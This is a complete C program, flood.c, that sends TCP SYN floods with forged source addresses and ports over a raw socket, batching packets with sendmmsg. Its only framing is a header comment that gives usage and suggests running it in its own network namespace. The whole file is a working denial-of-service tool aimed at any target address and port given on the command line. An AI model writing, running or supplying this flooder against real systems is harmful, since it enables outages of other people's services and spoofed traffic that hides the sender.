/*
 * flood.c - TCP SYNs from forged sources, as fast as a raw socket takes them.
 *
 *     flood TARGET PORT COUNT
 *
 * Each has another source address, from 100.64.0.0/10 (RFC 6598), and another
 * port. Run it in a network namespace of its own: needs CAP_NET_RAW.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#define BATCH 256

struct packet {
    struct iphdr ip;
    struct tcphdr tcp;
};

static uint32_t sum_words(const void *bytes, size_t size)
{
    uint32_t sum = 0;

    for (size_t i = 0; i + 2 <= size; i += 2) {
        uint16_t word;
        memcpy(&word, (const char *)bytes + i, sizeof(word));
        sum += word;
    }
    return sum;
}

/* RFC 9293, 3.1: over a pseudo header and the segment. */
static uint16_t checksum(const struct packet *packet)
{
    uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof(packet->tcp));

    sum += sum_words(&packet->ip.saddr, sizeof(packet->ip.saddr));
    sum += sum_words(&packet->ip.daddr, sizeof(packet->ip.daddr));
    sum += sum_words(&packet->tcp, sizeof(packet->tcp));
    sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~(sum + (sum >> 16));
}

static void make(struct packet *packet, in_addr_t target, uint16_t port, uint32_t number)
{
    *packet = (struct packet){
        .ip = {.version = 4, .ihl = 5, .tot_len = htons(sizeof(*packet)), .ttl = 64,
               .protocol = IPPROTO_TCP, .daddr = target,
               .saddr = htonl(0x64400000U + (number & 0x3fffffU))},
        .tcp = {.source = htons((uint16_t)(1024 + number % 60000)), .dest = htons(port),
                .seq = htonl(number * 2654435761U), .doff = 5, .syn = 1,
                .window = htons(65535)},
    };
    packet->tcp.check = checksum(packet);
}

int main(int argc, char **argv)
{
    static struct packet packets[BATCH];
    static struct iovec vectors[BATCH];
    static struct mmsghdr messages[BATCH];
    struct sockaddr_in to = {.sin_family = AF_INET};
    uint32_t count, sent = 0;
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

    if (argc != 4 || fd < 0) {
        perror("usage: flood TARGET PORT COUNT");
        return 2;
    }
    to.sin_addr.s_addr = inet_addr(argv[1]);
    count = (uint32_t)strtoul(argv[3], NULL, 10);
    for (int i = 0; i < BATCH; i++) {
        vectors[i] = (struct iovec){&packets[i], sizeof(packets[i])};
        messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof(to),
                                              .msg_iov = &vectors[i], .msg_iovlen = 1};
    }
    while (sent < count) {
        int n = count - sent < BATCH ? (int)(count - sent) : BATCH;

        for (int i = 0; i < n; i++)
            make(&packets[i], to.sin_addr.s_addr, (uint16_t)atoi(argv[2]), sent + (uint32_t)i);
        n = sendmmsg(fd, messages, (unsigned)n, 0);
        if (n < 0) {
            perror("sendmmsg");
            return 1;
        }
        sent += (uint32_t)n;
    }
    printf("%u\n", sent);
    return 0;
}
